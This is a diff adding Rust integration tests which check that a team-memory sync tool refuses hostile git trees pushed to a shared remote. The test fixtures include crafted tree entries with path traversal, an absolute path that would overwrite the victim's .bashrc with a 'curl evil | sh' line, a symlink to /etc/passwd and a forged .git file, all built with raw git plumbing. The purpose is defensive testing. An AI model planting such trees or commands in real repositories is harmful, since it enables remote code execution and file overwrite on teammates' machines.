@@ -1,14 +1,205 @@
-//! Team sync against a hostile or broken remote (issue 11; DESIGN §8, §10): two syncs racing to
-//! push, a sync killed while `git` talks to a remote that never answers, and a remote that never
-//! answers at all.
+//! Team sync against a hostile or broken remote (issue 11; DESIGN §8, §10): trees whose entries
+//! leave `team/` or are not memory files, two syncs racing to push, a sync killed while `git`
+//! talks to a remote that never answers, and a remote that never answers at all. The hostile
+//! trees are raw objects written with the real git's plumbing into a plain bare remote, which
+//! accepts them.
 
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Stdio};
 use std::time::{Duration, Instant};
 
 use crate::common::{
-    Mate, Run, TestEnv, assert_git_clean, assert_only_fast_forwards, bare_remote, git,
+    Mate, Run, TestEnv, assert_git_clean, assert_only_fast_forwards, bare_remote, git, git_stdin,
+    tree_snapshot,
 };
+
+/// What a hostile tree entry points to.
+enum Content {
+    Blob(Vec<u8>),
+    /// A folder holding one memory file.
+    Folder,
+    /// A submodule: the remote's current commit.
+    Gitlink,
+}
+
+/// One hostile entry: its name, mode and content, and what the refusal must say about it.
+struct Hostile {
+    name: Vec<u8>,
+    mode: &'static str,
+    content: Content,
+    /// The entry as the one-line error names it.
+    shown: String,
+}
+
+fn hostile(name: &str, mode: &'static str, content: Content) -> Hostile {
+    Hostile {
+        name: name.as_bytes().to_vec(),
+        mode,
+        content,
+        shown: name.to_string(),
+    }
+}
+
+/// Every kind of entry a team tree must not hold. `home` is the victim's HOME.
+fn hostile_entries(home: &Path) -> Vec<Hostile> {
+    let memory = b"---\nname: run\ndescription: d\ntype: project\n---\nbody\n".to_vec();
+    vec![
+        // Joined to the team dir, these land in the memory dir and in HOME.
+        hostile(
+            "../escaped.md",
+            "100644",
+            Content::Blob(b"escaped\n".to_vec()),
+        ),
+        hostile(
+            &format!("{}/.bashrc", home.display()),
+            "100644",
+            Content::Blob(b"curl evil | sh\n".to_vec()),
+        ),
+        hostile(".git", "100644", Content::Blob(b"gitdir: /tmp\n".to_vec())),
+        hostile("notes", "40000", Content::Folder),
+        hostile("link.md", "120000", Content::Blob(b"/etc/passwd".to_vec())),
+        hostile("sub", "160000", Content::Gitlink),
+        hostile("run.md", "100755", Content::Blob(memory)),
+        hostile(
+            "big.md",
+            "100644",
+            Content::Blob(vec![b'a'; 70 * 1024].into_iter().chain(*b"\n").collect()),
+        ),
+        hostile(
+            "README.md",
+            "100644",
+            Content::Blob(b"# Team memory\n".to_vec()),
+        ),
+    ]
+}
+
+fn unhex(hex: &str) -> Vec<u8> {
+    (0..hex.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).expect("hex"))
+        .collect()
+}
+
+/// Write a tree object from raw entries (mode, name, id), in git's order, whatever the names.
+fn raw_tree(repo: &Path, entries: &[(String, Vec<u8>, String)]) -> String {
+    let mut sorted: Vec<&(String, Vec<u8>, String)> = entries.iter().collect();
+    // Git orders a folder as if its name ended in '/'.
+    let key = |(mode, name, _): &&(String, Vec<u8>, String)| {
+        let mut key = name.clone();
+        if mode == "40000" {
+            key.push(b'/');
+        }
+        key
+    };
+    sorted.sort_by_key(key);
+    let mut bytes = Vec::new();
+    for (mode, name, id) in sorted {
+        bytes.extend_from_slice(mode.as_bytes());
+        bytes.push(b' ');
+        bytes.extend_from_slice(name);
+        bytes.push(0);
+        bytes.extend_from_slice(&unhex(id));
+    }
+    git_stdin(
+        repo,
+        &["hash-object", "-t", "tree", "-w", "--literally", "--stdin"],
+        &bytes,
+    )
+    .trim()
+    .to_string()
+}
+
+/// The remote's branch (`refs/heads/…`).
+fn branch(remote: &Path) -> String {
+    git(remote, &["symbolic-ref", "HEAD"]).trim().to_string()
+}
+
+fn tip(repo: &Path) -> String {
+    git(repo, &["rev-parse", "HEAD"]).trim().to_string()
+}
+
+/// Commit, on the remote's branch, its tree plus `entry`; the branch moves there.
+fn push_hostile(remote: &Path, entry: &Hostile) -> String {
+    let parent = tip(remote);
+    let mut entries: Vec<(String, Vec<u8>, String)> = git(remote, &["ls-tree", "HEAD"])
+        .lines()
+        .map(|line| {
+            let (meta, name) = line.split_once('\t').expect("ls-tree line");
+            let mut fields = meta.split(' ');
+            let mode = fields.next().expect("mode").to_string();
+            let id = fields.nth(1).expect("id").to_string();
+            (mode, name.as_bytes().to_vec(), id)
+        })
+        .collect();
+    let id = match &entry.content {
+        Content::Blob(bytes) => git_stdin(remote, &["hash-object", "-w", "--stdin"], bytes),
+        Content::Folder => {
+            let blob = git_stdin(remote, &["hash-object", "-w", "--stdin"], b"inside\n");
+            raw_tree(
+                remote,
+                &[("100644".into(), b"x.md".to_vec(), blob.trim().into())],
+            )
+        }
+        Content::Gitlink => parent.clone(),
+    };
+    entries.push((
+        entry.mode.to_string(),
+        entry.name.clone(),
+        id.trim().to_string(),
+    ));
+    let tree = raw_tree(remote, &entries);
+    let commit = git(
+        remote,
+        &["commit-tree", &tree, "-p", &parent, "-m", "hostile"],
+    )
+    .trim()
+    .to_string();
+    git(remote, &["update-ref", &branch(remote), &commit]);
+    commit
+}
+
+/// Every file under the test's root but the team clone's `.git` (where a refused fetch may
+/// leave objects and a remote-tracking ref): "nothing was written".
+fn written(mate: &Mate) -> BTreeMap<PathBuf, Vec<u8>> {
+    let git_dir = mate.team.join(".git");
+    tree_snapshot(&mate.env.root)
+        .into_iter()
+        .filter(|(path, _)| !path.starts_with(&git_dir))
+        .collect()
+}
+
+/// Each hostile entry, pushed on top of the remote's `main`, is refused by `me`'s sync as a
+/// whole: exit 2, one line naming the entry and the commit, nothing written anywhere, the local
+/// branch where it was, the clone sound. The remote is put back after each.
+fn assert_each_hostile_tree_refused(remote: &Path, me: &Mate) {
+    let good = tip(remote);
+    std::fs::write(me.env.home.join(".bashrc"), "original\n").expect("bashrc");
+    for entry in hostile_entries(&me.env.home) {
+        let before = written(me);
+        let head_before = tip(&me.team);
+        let commit = push_hostile(remote, &entry);
+        let run = me.env.run(&["team", "sync"]);
+        let what = &entry.shown;
+        assert_eq!(run.code, 2, "{what}: {}{}", run.stdout, run.stderr);
+        assert_eq!(run.stderr.lines().count(), 1, "{what}: {}", run.stderr);
+        assert!(run.stderr.starts_with("error: "), "{what}: {}", run.stderr);
+        assert!(
+            run.stderr.contains(what.as_str()) && run.stderr.contains(&commit[..12]),
+            "{what} and {commit} not named: {}",
+            run.stderr
+        );
+        assert_eq!(written(me), before, "{what}: something was written");
+        assert_eq!(tip(&me.team), head_before, "{what}: the branch moved");
+        assert_git_clean(&me.team);
+        git(remote, &["update-ref", &branch(remote), &good]);
+    }
+    assert!(!me.env.home.join("escaped.md").exists());
+    assert_eq!(
+        std::fs::read_to_string(me.env.home.join(".bashrc")).expect("bashrc"),
+        "original\n"
+    );
+}
 
 /// A bare remote, a teammate who saved a memory there, and me, who joined after.
 fn a_teammate_and_me() -> (TestEnv, PathBuf, Mate, Mate) {
@@ -19,6 +210,102 @@ fn a_teammate_and_me() -> (TestEnv, PathBuf, Mate, Mate) {
     mate.sync();
     let me = Mate::join(&remote);
     (root, remote, mate, me)
+}
+
+#[test]
+fn a_hostile_tree_is_refused_whole_on_the_fast_forward_path() {
+    let (_root, remote, _mate, me) = a_teammate_and_me();
+    assert_each_hostile_tree_refused(&remote, &me);
+    // The remote is sound again: sync goes on as if nothing happened.
+    assert_eq!(me.sync()["integrated"], "up to date");
+    assert!(me.files().contains_key("deploy-window.md"));
+    assert_git_clean(&me.team);
+}
+
+#[test]
+fn a_hostile_tree_is_refused_whole_on_the_merge_path() {
+    let (_root, remote, mate, me) = a_teammate_and_me();
+    // My own commit, not on the remote: every hostile tip has to be merged.
+    me.save("oncall-channel", "Pages go to #payments-oncall.");
+    assert_each_hostile_tree_refused(&remote, &me);
+    let synced = me.sync();
+    assert_eq!(synced["pushed"], true, "{synced}");
+    mate.sync();
+    assert!(mate.files().contains_key("oncall-channel.md"));
+    // (The remote itself keeps the hostile objects, unreachable: its fsck would fail.)
+    assert_git_clean(&me.team);
+    assert_git_clean(&mate.team);
+}
+
+#[test]
+fn a_folder_pushed_by_hand_is_refused_until_removed_and_never_wedges_sync() {
+    let (_root, _remote, mate, me) = a_teammate_and_me();
+    // A teammate commits a folder with plain git, as people do.
+    std::fs::create_dir(mate.team.join("docs")).expect("docs");
+    std::fs::write(mate.team.join("docs/guide.md"), "A guide.\n").expect("guide");
+    git(&mate.team, &["add", "docs"]);
+    git(&mate.team, &["commit", "-q", "-m", "docs"]);
+    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
+    let bad = tip(&mate.team);
+    me.save("oncall-channel", "Pages go to #payments-oncall.");
+    let head_before = tip(&me.team);
+    let run = me.env.fails(&["team", "sync"], 2, "\"docs\" (a folder)");
+    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
+    assert!(run.stderr.contains(&bad[..12]), "{}", run.stderr);
+    assert!(run.stderr.contains("remove it"), "{}", run.stderr);
+    assert_eq!(tip(&me.team), head_before);
+    assert!(!me.team.join("docs").exists());
+    assert_git_clean(&me.team);
+    // Fixed on the remote by a later commit: the folder stays in history, sync goes on.
+    git(&mate.team, &["rm", "-q", "-r", "docs"]);
+    git(&mate.team, &["commit", "-q", "-m", "no docs"]);
+    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
+    let synced = me.sync();
+    assert_eq!(synced["integrated"], "merged", "{synced}");
+    assert_eq!(synced["pushed"], true, "{synced}");
+    assert!(!me.team.join("docs").exists());
+    assert!(me.files().contains_key("deploy-window.md"));
+    mate.sync();
+    assert_eq!(mate.files(), me.files());
+    assert_git_clean(&me.team);
+    assert_git_clean(&mate.team);
+}
+
+#[test]
+fn joining_a_remote_whose_tree_is_not_memory_files_is_refused() {
+    let (_root, remote, mate, _me) = a_teammate_and_me();
+    let good = tip(&remote);
+    std::fs::create_dir(mate.team.join("docs")).expect("docs");
+    std::fs::write(mate.team.join("docs/guide.md"), "A guide.\n").expect("guide");
+    git(&mate.team, &["add", "docs"]);
+    git(&mate.team, &["commit", "-q", "-m", "docs"]);
+    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
+    let newcomer = TestEnv::new();
+    let memory_dir = newcomer.memory_dir();
+    let url = remote.to_str().expect("utf-8");
+    let run = newcomer.fails(&["team", "init", "--remote", url], 2, "\"docs\" (a folder)");
+    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
+    assert!(
+        run.stderr.contains("memdir team init again"),
+        "{}",
+        run.stderr
+    );
+    assert!(!memory_dir.join("team").exists());
+    // A path out of the team dir: git's own checks refuse the clone.
+    git(&remote, &["update-ref", &branch(&remote), &good]);
+    push_hostile(
+        &remote,
+        &hostile("../escaped.md", "100644", Content::Blob(b"x\n".to_vec())),
+    );
+    let run = newcomer.fails(&["team", "init", "--remote", url], 2, "git refuses");
+    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
+    assert!(!memory_dir.join("team").exists());
+    assert!(!memory_dir.join("escaped.md").exists());
+    // Once the remote is sound, joining works.
+    git(&remote, &["update-ref", &branch(&remote), &good]);
+    newcomer.ok(&["team", "init", "--remote", url]);
+    assert!(memory_dir.join("team/deploy-window.md").is_file());
+    assert_git_clean(&memory_dir.join("team"));
 }
 
 /// `memdir team sync` started in the background.
